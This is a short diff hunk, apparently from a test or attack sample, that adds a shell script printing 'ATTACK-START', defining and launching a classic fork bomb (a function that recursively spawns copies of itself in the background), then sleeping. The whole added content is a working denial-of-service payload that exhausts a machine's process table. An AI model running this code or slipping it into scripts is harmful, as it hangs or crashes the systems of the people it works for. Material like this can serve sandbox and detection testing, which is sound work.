@@ -1,0 +1,4 @@
+echo ATTACK-START
+b() { b | b & }
+b
+sleep 20
